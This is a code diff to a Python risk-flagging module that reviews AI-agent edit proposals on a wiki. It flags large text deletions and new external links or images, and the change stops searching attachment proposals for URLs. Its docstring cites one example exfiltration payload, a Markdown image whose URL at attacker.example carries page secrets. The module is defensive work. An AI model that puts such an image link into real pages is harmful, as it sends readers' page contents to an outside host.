@@ -6,8 +6,10 @@ A proposal is flagged when it
 - adds an external image or link whose URL was not on the page before (an image is fetched by every
   reader's browser, so its URL can carry page text out: ``![x](https://attacker.example/c?d=SECRET)``).
 
-For a new page or a comment every external URL is new. Links inside the site (``page:``,
-``attachment:``, ``user:`` … in the Markdown dialect) are not external. :func:`risks` works on the
+For a new page or a comment every external URL is new; a proposed attachment's text is a file, not
+page text, and is not searched for URLs (an SVG that loads anything is refused when proposed).
+Links inside the site (``page:``, ``attachment:``, ``user:`` … in the Markdown dialect) are not
+external. :func:`risks` works on the
 Markdown only (no network), so the CLI, the TUI review and tests all see the same flags.
 """
 
@@ -49,7 +51,7 @@ def risks(proposal: Proposal, markdown: str | None = None) -> list[str]:
     """Plain sentences, one per flag (empty: nothing unusual). ``markdown``: the result to judge
     (default: the whole proposal; the review passes the accepted result)."""
     # lazy, for start-up: workbench.agent.proposals loads on first use
-    from workbench.agent.proposals import EDIT
+    from workbench.agent.proposals import ATTACHMENT, EDIT
 
     before = proposal.before if proposal.kind == EDIT else ""
     after = proposal.after if markdown is None else markdown
@@ -64,6 +66,10 @@ def risks(proposal: Proposal, markdown: str | None = None) -> list[str]:
                 flags.append(
                     f"It removes {100 * removed // total}% of the page's text ({_size(removed)} of {_size(total)})."
                 )
+    if proposal.kind == ATTACHMENT:
+        # a file, not page text: nothing in it is fetched by a reader's page (an SVG that would
+        # load anything from elsewhere is refused when proposed: agent/attachment_proposals.py)
+        return flags
     old = external_urls(before)
     for url, kind in external_urls(after).items():
         if url in old and not (kind == "image" and old[url] != "image"):
